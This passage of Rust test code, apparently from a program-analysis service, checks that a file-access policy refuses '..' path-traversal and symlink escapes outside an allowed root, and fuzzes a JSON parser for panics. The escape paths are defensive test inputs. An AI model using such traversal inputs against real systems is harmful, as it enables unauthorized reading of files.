    let hash = content_hash(&manifest, &layouts, &code);
    Ok(external_job(format!("external/{hash:016x}/{stem}"), manifest, layouts, code))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn tmp(tag: &str) -> PathBuf {
        let d = std::env::temp_dir()
            .join(format!("flowdroid-external-{tag}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&d);
        std::fs::create_dir_all(&d).unwrap();
        d
    }

    #[test]
    fn empty_policy_denies_everything() {
        let p = AppPolicy::default();
        assert_eq!(p.resolve("/etc/hosts"), Err(PolicyError::NoRoots));
    }

    #[test]
    fn dotdot_and_symlink_escapes_are_refused() {
        let root = tmp("policy");
        let outside = tmp("policy-outside");
        std::fs::write(outside.join("x.rpk"), b"junk").unwrap();
        std::fs::create_dir_all(root.join("sub")).unwrap();
        std::fs::write(root.join("sub/ok.rpk"), b"junk").unwrap();
        let policy = AppPolicy::new(&[root.clone()]).unwrap();

        // Inside (even via a `..` that stays inside) resolves.
        assert!(policy.resolve(&format!("{}/sub/ok.rpk", root.display())).is_ok());
        assert!(policy
            .resolve(&format!("{}/sub/../sub/ok.rpk", root.display()))
            .is_ok());

        // `..` escaping the root is refused after canonicalization.
        let escape = format!("{}/sub/../../{}/x.rpk", root.display(), outside.file_name().unwrap().to_str().unwrap());
        assert!(matches!(policy.resolve(&escape), Err(PolicyError::Outside(_))));

        // A symlink inside the root pointing outside is refused too.
        #[cfg(unix)]
        {
            let link = root.join("sneaky.rpk");
            std::os::unix::fs::symlink(outside.join("x.rpk"), &link).unwrap();
            assert!(matches!(
                policy.resolve(link.to_str().unwrap()),
                Err(PolicyError::Outside(_))
            ));
        }

        let missing = format!("{}/no-such.rpk", root.display());
        assert!(matches!(policy.resolve(&missing), Err(PolicyError::NotFound(_))));

        let _ = std::fs::remove_dir_all(&root);
        let _ = std::fs::remove_dir_all(&outside);
    }

    #[test]
    fn missing_allow_root_fails_at_boot() {
        let bad = std::env::temp_dir().join("flowdroid-external-no-such-root");
        assert!(AppPolicy::new(&[bad]).is_err());
    }

    #[test]
    fn path_requests_are_distinguished_from_corpus_names() {
        assert!(is_path_request("/apps/a.rpk"));
        assert!(is_path_request("./a"));
        assert!(is_path_request("../a"));
        assert!(is_path_request("relative/but/packed.rpk"));
        assert!(!is_path_request("droidbench/Button1"));
        assert!(!is_path_request("stress/2000"));
        assert!(!is_path_request("insecurebank"));
    }

    #[test]
    fn loader_rejects_junk() {
        let d = tmp("junk");
        std::fs::write(d.join("a.rpk"), b"not an archive").unwrap();
        let mut scratch = Program::new();
        assert!(load_external_job(&d.join("a.rpk"), &mut scratch).is_err());
        // A directory without the required files.
        assert!(load_external_job(&d, &mut scratch).is_err());
        let _ = std::fs::remove_dir_all(&d);
    }
}
