//! Fuzz tests for the std-only JSON layer: arbitrary and garbled input
//! must never panic the parser, and every value the writer can emit
//! must parse back to an identical value. The surrogate-escape cases
//! pin a real bug: `"\ud800A"` (a high surrogate followed by a
//! non-surrogate escape) used to underflow in the pair-combination
//! arithmetic and panic debug builds.

use flowdroid_service::json::{self, Json};
use proptest::prelude::*;
use proptest::strategy::BoxedStrategy;

/// Arbitrary Unicode strings, biased across the interesting ranges
/// (controls, ASCII, BMP, astral plane) so the writer's escaping and
/// the parser's UTF-8/escape handling both get exercised.
fn arb_string() -> impl Strategy<Value = String> {
    proptest::collection::vec(
        any::<u32>().prop_map(|n| {
            let n = n % 0x11_0000;
            char::from_u32(n).unwrap_or('\u{FFFD}')
        }),
        0..24,
    )
    .prop_map(|cs| cs.into_iter().collect())
}

/// Arbitrary JSON values up to `depth` container levels. Numbers stay
/// in the exact-integer range, matching what the protocol emits.
fn arb_json(depth: u32) -> BoxedStrategy<Json> {
    if depth == 0 {
        prop_oneof![
            Just(Json::Null),
            any::<bool>().prop_map(Json::Bool),
            any::<u32>().prop_map(|n| Json::Num(f64::from(n))),
            arb_string().prop_map(Json::Str),
        ]
        .boxed()
    } else {
        prop_oneof![
            arb_json(0),
            proptest::collection::vec(arb_json(depth - 1), 0..4).prop_map(Json::Arr),
            proptest::collection::vec((arb_string(), arb_json(depth - 1)), 0..4)
                .prop_map(Json::Obj),
        ]
        .boxed()
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    /// Arbitrary printable input never panics the parser.
    #[test]
    fn arbitrary_input_never_panics(input in ".{0,256}") {
        let _ = json::parse(&input);
    }

    /// JSON-ish token soup — heavy on quotes, braces and `\u` escape
    /// fragments — never panics either. This is the distribution that
    /// reaches the surrogate arithmetic.
    #[test]
    fn escape_soup_never_panics(
        tokens in proptest::collection::vec(
            prop_oneof![
                Just("\"".to_owned()),
                Just("\\".to_owned()),
                Just("\\u".to_owned()),
                Just("\\ud800".to_owned()),
                Just("\\udc00".to_owned()),
                Just("\\udfff".to_owned()),
                Just("{".to_owned()),
                Just("}".to_owned()),
                Just("[".to_owned()),
                Just("]".to_owned()),
                Just(":".to_owned()),
                Just(",".to_owned()),
                Just("null".to_owned()),
                Just("-".to_owned()),
                "[0-9a-fA-F]{1,4}",
                ".{0,8}",
            ],
            0..32,
        )
    ) {
        let _ = json::parse(&tokens.concat());
    }

    /// Truncating a valid document at any byte boundary never panics
    /// (it errors or — for a prefix that is itself complete — parses).
    #[test]
    fn truncated_documents_never_panic(v in arb_json(2), cut in any::<usize>()) {
        let line = v.to_line();
        let mut cut = cut % (line.len() + 1);
        while !line.is_char_boundary(cut) {
            cut -= 1;
        }
        let _ = json::parse(&line[..cut]);
    }

    /// Writer → parser round-trips are identity for every value the
    /// writer can produce.
    #[test]
    fn write_then_parse_is_identity(v in arb_json(3)) {
        let line = v.to_line();
        let back = json::parse(&line).expect("writer output must parse");
        prop_assert_eq!(back, v);
    }
}

/// The exact input that used to underflow (`lo - 0xDC00` with
/// `lo == 0x0041`): the unpaired high surrogate becomes U+FFFD and the
/// following escape decodes on its own.
#[test]
fn high_surrogate_followed_by_non_surrogate_escape() {
    // `A` after the high surrogate enters the pair-combination
    // path with lo = 0x41 < 0xDC00 — the underflow input.
    let v = json::parse("\"\\ud800\\u0041\"").expect("lenient surrogate handling");
    assert_eq!(v, Json::Str("\u{FFFD}A".to_string()));
    // Plain text (no escape) after the high surrogate takes the
    // lone-surrogate path instead.
    let v = json::parse(r#""\ud800A""#).expect("lenient surrogate handling");
    assert_eq!(v, Json::Str("\u{FFFD}A".to_string()));
}

#[test]
fn surrogate_escape_cases() {
    // A proper escaped pair combines.
    assert_eq!(
        json::parse("\"\\ud83d\\ude00\"").unwrap(),
        Json::Str("\u{1F600}".to_string())
    );
    assert_eq!(
        json::parse("\"\\ud800\\udc00\"").unwrap(),
        Json::Str("\u{10000}".to_string())
    );
    // Lone high surrogate (end of string, or followed by plain text).
    assert_eq!(json::parse(r#""\ud800""#).unwrap(), Json::Str("\u{FFFD}".to_string()));
    assert_eq!(json::parse(r#""\ud800x""#).unwrap(), Json::Str("\u{FFFD}x".to_string()));
    // Two high surrogates in a row: both are unpaired.
    assert_eq!(
        json::parse(r#""\ud800\ud800""#).unwrap(),
        Json::Str("\u{FFFD}\u{FFFD}".to_string())
    );
    // Lone low surrogate.
    assert_eq!(json::parse(r#""\udc00""#).unwrap(), Json::Str("\u{FFFD}".to_string()));
    // Truncated escapes are errors, not panics.
    assert!(json::parse(r#""\u12""#).is_err());
    assert!(json::parse(r#""\ud800\u12""#).is_err());
}
